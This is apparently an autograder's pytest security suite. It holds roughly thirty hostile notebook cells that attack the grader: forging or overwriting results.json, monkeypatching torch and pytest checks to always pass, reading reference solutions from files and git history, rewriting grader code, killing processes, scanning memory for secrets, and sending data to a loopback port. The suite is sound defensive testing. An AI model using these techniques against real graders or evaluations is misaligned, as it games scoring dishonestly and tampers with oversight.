"""Hostile submissions: each tries one attack and gets no more than its honest score.

Every hostile submission is the untouched student notebooks (worth 0 points) plus one
cell that attacks the grader, so its honest score is 0 unless stated. They are graded
the way an instructor grades, `pytest autograder/` in a new process, with short time
limits so that the suite stays fast, in each setting of ``tests.conftest.SETTINGS``: as
on CI (root, Linux namespaces) and as in Gradescope's Docker container (root without the
capabilities and system calls namespaces need), where student code runs as a user of its own.
"""

import hashlib
import json
import os
import shutil
import socket
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from autograder.contract import REFERENCE_DIR, RELEASE_DIR, REPO_ROOT
from tests.conftest import SETTINGS, GradingRun, run_grader

pytestmark = pytest.mark.slow

LIMITS = ["--call-timeout", "3", "--training-timeout", "60", "--submission-timeout", "120"]
RUN_BOUND_SECONDS = 120
FORGED = '{"score": 1000, "max_score": 1000, "tests": []}'
# An environment variable of the grader's that no student code may see, and the halves it is searched for by.
SECRET_VARIABLE = "AUTOGRADER_HOSTILE_TEST_TOKEN"
SECRET_HALVES = ("token-of-the-grader-", "do-not-leak-7f3a9")
# A line of the reference's softmax, which no released notebook holds, in halves.
ANSWER_HALVES = ("amax(dim=dim, keepdim=True)", ".detach()")
MARKER = "autograder-hostile-orphan-marker"
# The most memory the grader's own process may reach, whatever a submission sends it: a
# Gradescope container may have 768 MB for the grader and the worker together.
GRADER_PEAK_MB = 768
# How large results.json may grow, whatever a submission prints or raises.
RESULTS_BYTES = 512 * 1024


@dataclass(frozen=True)
class Attack:
    """One cell appended to one notebook; its honest score; whether only confinement stops it.

    ``with_reference``: graded with the reference present, so that the grader loads it (in its
    own process) while the attack runs.
    """

    notebook: str
    cell: str
    honest_score: float = 0.0
    needs_confinement: bool = False
    with_reference: bool = False


ATTACKS = {
    "exit_at_load": Attack("03_activations.ipynb", """
class Attack:
    import sys
    sys.exit(0)
"""),
    "os_exit_at_load": Attack("02_iris_mlp.ipynb", """
class Attack:
    import os
    os._exit(0)
"""),
    "hang_at_load": Attack("02_iris_mlp.ipynb", """
class Attack:
    import time
    time.sleep(10**6)
"""),
    "os_exit_in_a_call": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    import os
    os._exit(0)
"""),
    "keyboard_interrupt": Attack("03_activations.ipynb", """
def relu(z):
    raise KeyboardInterrupt
"""),
    "infinite_loop": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    while True:
        pass
"""),
    "memory_bomb": Attack("01_linear_regression.ipynb", """
def loss_fn(input, target):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
"""),
    "segfault": Attack("03_activations.ipynb", """
def relu(z):
    import ctypes
    return ctypes.string_at(0)
"""),
    "monkeypatch_torch_and_numpy": Attack("03_activations.ipynb", """
class Attack:
    import numpy, torch
    torch.testing.assert_close = lambda *args, **kwargs: None
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
    torch.Tensor.__eq__ = lambda self, other: True
    numpy.allclose = lambda *args, **kwargs: True

def sigmoid(z):
    raise NotImplementedError()
"""),
    "monkeypatch_pytest_and_hypothesis": Attack("03_activations.ipynb", """
class Attack:
    import hypothesis, pytest
    pytest.fail = lambda *args, **kwargs: None
    pytest.approx = lambda expected, *args, **kwargs: expected
    hypothesis.given = lambda *args, **kwargs: (lambda test: (lambda *a, **k: None))

def tanh(z):
    raise NotImplementedError()
"""),
    "lying_eq": Attack("03_activations.ipynb", """
class Anything:
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *args, **kwargs: True

def sigmoid(z):
    return Anything()
"""),
    "tensor_subclass_that_always_compares_equal": Attack("03_activations.ipynb", """
import torch

class AlwaysClose(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("eq", "__eq__", "allclose", "isclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def tanh(z):
    return torch.zeros_like(z).as_subclass(AlwaysClose)
""", honest_score=1.5),  # what plain zeros earn: odd, within [-1, 1], input left unchanged
    "forged_accuracy": Attack("02_iris_mlp.ipynb", """
import torch
from torch import nn

class Model(nn.Module):
    def __init__(self, input_size, hidden_size, output_size):
        super().__init__()
        self.layer1 = nn.Linear(input_size, hidden_size)
        self.layer2 = nn.Linear(hidden_size, output_size)

    def forward(self, x):
        return torch.softmax(self.layer2(torch.sigmoid(self.layer1(x))), dim=1)

def train_mlp(model, train_dl, loss_fn, optimizer, num_epochs):
    return [0.0] * num_epochs, [1.0] * num_epochs

def accuracy(model, X, y):
    return 1.0
""", honest_score=4.0),  # Model's own three checks are honestly earned
    "flood_the_channel": Attack("03_activations.ipynb", """
def relu(z):
    import os
    for fd in range(3, 256):
        try:
            os.write(fd, b"\\x00garbage" * 1000)
        except OSError:
            pass
    raise NotImplementedError()
"""),
    "write_the_results_file": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    with open(RESULTS, "w") as results:
        results.write(FORGED)
    raise NotImplementedError()
""", needs_confinement=True),
    "background_process_edits_the_results_later": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    import subprocess, sys
    code = "import time; time.sleep(3); open(RESULTS, 'w').write(FORGED)"
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    raise NotImplementedError()
""", needs_confinement=True),
    "orphan_process": Attack("03_activations.ipynb", """
def relu(z):
    import subprocess, sys
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARKER], start_new_session=True)
    raise NotImplementedError()
""", needs_confinement=True),
    "read_the_reference_solutions": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    import json
    cells = json.load(open(REFERENCE + "/03_activations.ipynb"))["cells"]
    namespace = {}
    exec("import torch", namespace)
    for cell in cells:
        if "def softmax" in "".join(cell["source"]):
            exec("".join(cell["source"]), namespace)
    return namespace["softmax"](z, dim)
""", needs_confinement=True),
    "read_the_git_history": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    import json, subprocess
    shown = subprocess.run(["git", "-C", REPO, "show", "HEAD:solutions/pytorch_nn/03_activations.ipynb"],
                           capture_output=True, text=True, check=True).stdout
    namespace = {}
    exec("import torch", namespace)
    for cell in json.loads(shown)["cells"]:
        if "def softmax" in "".join(cell["source"]):
            exec("".join(cell["source"]), namespace)
    return namespace["softmax"](z, dim)
""", needs_confinement=True),
    "edit_the_autograder": Attack("03_activations.ipynb", """
class Attack:
    import pathlib
    for path in pathlib.Path(REPO, "autograder").rglob("*.py"):
        try:
            path.write_text("import pytest\\npytestmark = pytest.mark.skip\\n")
        except OSError:
            pass
""", needs_confinement=True),
    "kill_the_grader": Attack("03_activations.ipynb", """
def relu(z):
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    raise NotImplementedError()
""", needs_confinement=True),
    "reach_the_network": Attack("03_activations.ipynb", """
def relu(z):
    import socket
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
    raise NotImplementedError()
""", needs_confinement=True),
    # Every worker is forked from a copy of the grader: it scans its own memory for the
    # reference's softmax and for the grader's environment (SECRET_VARIABLE), each searched for
    # as two halves, so that the attack's own code holds neither whole. sigmoid works once the
    # scan has run (so the scan is known to work), relu only if it found either.
    "scan_the_workers_memory": Attack("03_activations.ipynb", """
import threading, torch

def holds(chunk, halves):
    first, second = (half.encode() for half in halves)
    at = chunk.find(first)
    while at >= 0:
        if chunk[at + len(first):at + len(first) + len(second)] == second:
            return True
        at = chunk.find(first, at + 1)
    return False

def scan(result):
    # Its own memory read directly (ctypes), every readable region that no file backs (the heap,
    # the stack, anonymous maps: where a copy of the grader's data would be): no /proc/self/mem,
    # which a process that changed its uid may not open.
    import ctypes
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps.read().splitlines()]
    for fields in regions:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if not fields[1].startswith("r") or end - start > 2**28 or fields[5:] not in ([], ["[heap]"], ["[stack]"]):
            continue
        chunk = ctypes.string_at(start, end - start)
        if holds(chunk, ANSWER_HALVES) or holds(chunk, SECRET_HALVES):
            result["found"] = True
    result["scanned"] = True

SCAN = {}

class Attack:  # a class body runs when the notebook is loaded; a bare call would not
    threading.Thread(target=scan, args=(SCAN,), daemon=True).start()

def sigmoid(z):
    while "scanned" not in SCAN:
        threading.Event().wait(0.1)
    positive = z >= 0
    e = torch.exp(torch.where(positive, -z, z))
    return torch.where(positive, 1 / (1 + e), e / (1 + e))

def relu(z):
    if SCAN.get("found"):
        return torch.where(z > 0, z, torch.zeros_like(z))
    raise NotImplementedError()
""", honest_score=7.5, with_reference=True),
    # Looks for a copy of the reference wherever the grader might have put one: the reference
    # worker's folder, any notebook under /tmp, the paths on any process's command line, the
    # repository, the memory of the process it runs in (a copy of the grader's); it keeps
    # looking while grading goes on (the grader loads the reference meanwhile).
    "copy_the_reference_from_wherever_it_is": Attack("03_activations.ipynb", """
import glob, json, os, threading, time

def working_softmax(path):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        return None
    for cell in cells:
        source = "".join(cell["source"])
        if "def softmax" in source and "NotImplementedError" not in source:
            return source

def search(found):
    deadline = time.time() + 60
    while not found and time.time() < deadline:
        places = {REFERENCE + "/03_activations.ipynb", REPO + "/solutions/pytorch_nn/03_activations.ipynb"}
        places.update(glob.glob("/tmp/**/03_activations.ipynb", recursive=True))
        places.update(glob.glob("/var/tmp/**/03_activations.ipynb", recursive=True))
        for pid in os.listdir("/proc"):
            try:
                arguments = open("/proc/" + pid + "/cmdline", "rb").read().decode().split("\\0")
            except OSError:
                continue
            places.update(os.path.join(a, "03_activations.ipynb") for a in arguments if a.startswith("/"))
        found.extend(filter(None, map(working_softmax, sorted(places))))
        time.sleep(0.2)

FOUND = []

class Attack:  # a class body runs when the notebook is loaded; a bare call would not
    threading.Thread(target=search, args=(FOUND,), daemon=True).start()

def softmax(z, dim=-1):
    namespace = {}
    exec("import torch", namespace)
    exec(FOUND[0], namespace)
    return namespace["softmax"](z, dim)
""", needs_confinement=True, with_reference=True),
    # A reply far larger than any honest one: 40 MB of zeros (a 400 MB one takes the worker longer
    # to send than the suite's 3 s time-out on a loaded machine).
    "a_reply_of_40_megabytes": Attack("03_activations.ipynb", """
def relu(z):
    import torch
    return torch.zeros(10_000_000)
"""),
    # A small reply whose shape would make a check compare every pair of its 40000 values.
    "a_reply_that_would_be_compared_pairwise": Attack("03_activations.ipynb", """
def softmax(z, dim=-1):
    import torch
    return torch.zeros(40_000)
""", honest_score=0.5),  # the input is left unchanged
    "a_huge_failure_message_with_terminal_escapes": Attack("03_activations.ipynb", """
def sigmoid(z):
    raise ValueError("\\x1b[2J\\x1b[1;32mAll checks passed: 63 / 63\\x1b[0m" + "x" * 50_000_000)
"""),
    "a_hang_in_a_function_many_checks_call": Attack("03_activations.ipynb", """
def tanh(z):
    while True:
        pass
"""),
}


@dataclass
class HostileRun:
    """A graded hostile submission: the grading run, its wall time, and what was found afterwards."""

    run: GradingRun
    seconds: float
    results_after_wait: dict


def tree_digest(*folders: Path) -> str:
    """One hash of every file under ``folders``, to see whether anything was changed."""
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def hostile_submission(name: str, attack: Attack, directory: Path, port: int) -> Path:
    """The student notebooks with the attack's cell appended, its placeholders filled in."""
    shutil.copytree(RELEASE_DIR, directory)
    cell = attack.cell
    for placeholder, value in {
        "RESULTS": repr(str(directory.parent / "results.json")),
        "FORGED": repr(FORGED),
        "MARKER": repr(MARKER),
        "REFERENCE": repr(str(REFERENCE_DIR)),
        "REPO": repr(str(REPO_ROOT)),
        "PORT": str(port),
        "SECRET_HALVES": repr(SECRET_HALVES),
        "ANSWER_HALVES": repr(ANSWER_HALVES),
    }.items():
        cell = cell.replace(placeholder, value)
    path = directory / attack.notebook
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.append(new_code_cell(cell))
    nbformat.write(notebook, path)
    return directory


def grade_hostile(name: str, attack: Attack, root: Path, port: int, setting: str) -> HostileRun:
    """Grade one hostile submission; wait a little longer, then read its results file again."""
    submission = hostile_submission(name, attack, root / name / "submission", port)
    results = submission.parent / "results.json"
    if attack.with_reference:
        reference = ["--reference", str(REFERENCE_DIR)]
    else:
        reference = ["--reference", str(root / "no-reference")]
    started = time.monotonic()
    run = run_grader(submission, results, *reference, *LIMITS, setting=setting)
    seconds = time.monotonic() - started
    if "sleep(3)" in attack.cell:
        time.sleep(4)  # longer than the attack's background process waits before it writes
    return HostileRun(run, seconds, json.loads(results.read_text()))


@pytest.fixture(scope="module")
def listener() -> socket.socket:
    """A loopback TCP port no hostile submission should be able to reach."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    yield server
    server.close()


@pytest.fixture(scope="module")
def protected_digest() -> str:
    """The hash of the autograder and the reference before any hostile submission is graded."""
    return tree_digest(REPO_ROOT / "autograder", REFERENCE_DIR)


@pytest.fixture(scope="module", params=SETTINGS)
def setting(request: pytest.FixtureRequest) -> str:
    """The setting the hostile submissions are graded in."""
    return request.param


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory, listener, protected_digest, setting) -> dict[str, HostileRun]:
    """Every hostile submission graded in ``setting``, two at a time."""
    root = tmp_path_factory.mktemp(f"hostile-{setting}")
    port = listener.getsockname()[1]
    os.environ[SECRET_VARIABLE] = "".join(SECRET_HALVES)  # in every grader's environment
    try:
        with ThreadPoolExecutor(max_workers=2) as pool:
            futures = {name: pool.submit(grade_hostile, name, attack, root, port, setting)
                       for name, attack in ATTACKS.items()}
            return {name: future.result() for name, future in futures.items()}
    finally:
        del os.environ[SECRET_VARIABLE]


def confinement_of(run: GradingRun) -> str:
    """The confinement a grading run says it used: "namespaces", "user" or "none"."""
    output = run.results["output"]
    return output.split("(")[1].split(")")[0] if output.startswith("Student code ran confined") else "none"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_gets_no_more_than_its_honest_score(name, hostile_runs):
    """The attack earns no points: the results file holds the honest score or less."""
    attack = ATTACKS[name]
    hostile = hostile_runs[name]
    if attack.needs_confinement and confinement_of(hostile.run) == "none":
        pytest.skip("only confinement stops this attack, and student code cannot be confined here")
    assert hostile.results_after_wait == hostile.run.results, "the results file changed after grading"
    assert hostile.results_after_wait["score"] <= attack.honest_score, hostile.run.stdout[-4000:]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_is_graded_to_the_end(name, hostile_runs, reference_run):
    """The run finishes within its bound, prints the score table and reports every test."""
    hostile = hostile_runs[name]
    assert hostile.seconds < RUN_BOUND_SECONDS
    assert "score for" in hostile.run.stdout and "Total" in hostile.run.stdout, hostile.run.stdout[-4000:]
    assert len(hostile.run.results["tests"]) == len(reference_run.results["tests"])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_submission_leaves_the_grader_small(name, hostile_runs):
    """Whatever the submission sends back or raises, the grader's memory and results.json stay bounded."""
    hostile = hostile_runs[name]
    assert hostile.run.peak_mb < GRADER_PEAK_MB
    assert len(json.dumps(hostile.run.results)) < RESULTS_BYTES


def test_a_reply_larger_than_the_limit_is_refused_with_a_message(hostile_runs):
    """A 40 MB reply never reaches the grader: the check fails saying how much was sent."""
    outputs = [t["output"] for t in hostile_runs["a_reply_of_40_megabytes"].run.results["tests"]]
    assert any("relu sent back 38.1 MB; the grader takes at most 8 MB" in o for o in outputs), outputs


def test_a_reply_of_the_wrong_shape_fails_before_any_computation(hostile_runs):
    """softmax returning 40000 values for 8 inputs fails on its shape."""
    outputs = [t["output"] for t in hostile_runs["a_reply_that_would_be_compared_pairwise"].run.results["tests"]]
    assert any("softmax should return a tensor of shape" in o and "not (40000,)" in o for o in outputs), outputs


def test_a_huge_message_is_cut_and_its_escape_codes_removed(hostile_runs):
    """A 50 MB exception message reaches results.json as a few kilobytes of plain text."""
    results = hostile_runs["a_huge_failure_message_with_terminal_escapes"].run.results
    sigmoid = [t["output"] for t in results["tests"] if "All checks passed" in t["output"]]
    assert sigmoid and all("\x1b" not in o and len(o) < 8000 and "more characters cut" in o for o in sigmoid)


def test_a_workers_memory_holds_neither_the_reference_nor_the_graders_environment(hostile_runs):
    """A worker that scans all of its own memory finds no line of the reference and no variable of the grader's."""
    checks = {}
    for test in hostile_runs["scan_the_workers_memory"].run.results["tests"]:
        checks.setdefault(test["extra_data"]["checks"], []).append(test["status"] == "passed")
    assert all(checks["sigmoid"]), "the scan did not finish, so it proves nothing"
    assert not any(checks["relu"]), "the scan found the reference or the grader's environment"


def test_a_hung_function_costs_one_time_out(hostile_runs):
    """After tanh has run out of time once, every later check that calls it fails at once, with the same message."""
    outputs = [t["output"] for t in hostile_runs["a_hang_in_a_function_many_checks_call"].run.results["tests"]]
    hung = [o for o in outputs if o.startswith("tanh did not return within 3 s")]
    assert len(hung) >= 8, outputs


def test_results_say_how_student_code_was_confined(hostile_runs, setting):
    """results.json names the confinement in force: namespaces on CI, a user of its own where Docker refuses them."""
    import os

    if os.geteuid() != 0:
        pytest.skip("confinement is only required as root")
    expected = {"namespaces": "namespaces", "docker-like": "user"}[setting]
    assert {confinement_of(h.run) for h in hostile_runs.values()} == {expected}


def test_forged_accuracy_loses_the_accuracy_checks(hostile_runs):
    """Training that never happened cannot pass the test-accuracy check, whatever accuracy says."""
    tests = {t["name"]: t for t in hostile_runs["forged_accuracy"].run.results["tests"]}
    reached = tests["Trained with the lecture's recipe, Model reaches at least 0.9 accuracy on the held-out test set."]
    assert reached["score"] == 0 and "test accuracy is" in reached["output"]


def test_time_limit_names_the_function(hostile_runs):
    """An infinite loop fails its checks with a message naming the function and the limit."""
    outputs = [t["output"] for t in hostile_runs["infinite_loop"].run.results["tests"]]
    assert any(o.startswith("loss_fn did not return within 3 s") for o in outputs), outputs


def test_a_notebook_that_hangs_at_load_costs_only_itself(hostile_runs):
    """A notebook that never finishes loading fails its own checks; the other notebooks are still loaded."""
    outputs = [t["output"] for t in hostile_runs["hang_at_load"].run.results["tests"]]
    assert any("02_iris_mlp.ipynb did not finish loading within 3 s" in o for o in outputs)
    assert any("`softmax` is not implemented yet" in o for o in outputs)


def test_no_hostile_process_outlives_grading(hostile_runs):
    """No process a hostile submission started is still running once grading is over."""
    if confinement_of(hostile_runs["orphan_process"].run) == "none":
        pytest.skip("unconfined, a process that starts its own session can escape")
    found = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True)
    assert found.stdout == "", found.stdout


def test_no_hostile_submission_reached_the_network(hostile_runs, listener):
    """Under namespaces, no hostile submission connected to a port on the grader's loopback interface."""
    if confinement_of(hostile_runs["reach_the_network"].run) != "namespaces":
        pytest.skip("only a network namespace takes the network away (Docker's containers keep theirs)")
    with pytest.raises(TimeoutError):
        listener.accept()


def test_the_autograder_and_the_reference_are_unchanged(hostile_runs, protected_digest):
    """After every hostile submission, the autograder's and the reference's files are as they were."""
    if confinement_of(hostile_runs["edit_the_autograder"].run) == "none":
        pytest.skip("unconfined, student code can write the user's files")
    assert tree_digest(REPO_ROOT / "autograder", REFERENCE_DIR) == protected_digest


def test_reference_still_gets_full_marks_after_the_hostile_submissions(hostile_runs, tmp_path, setting):
    """A correct submission graded right after the hostile ones gets full marks."""
    run = run_grader(REFERENCE_DIR, tmp_path / "results.json", setting=setting)
    assert run.results["score"] == run.results["max_score"] > 0, run.stdout[-4000:]
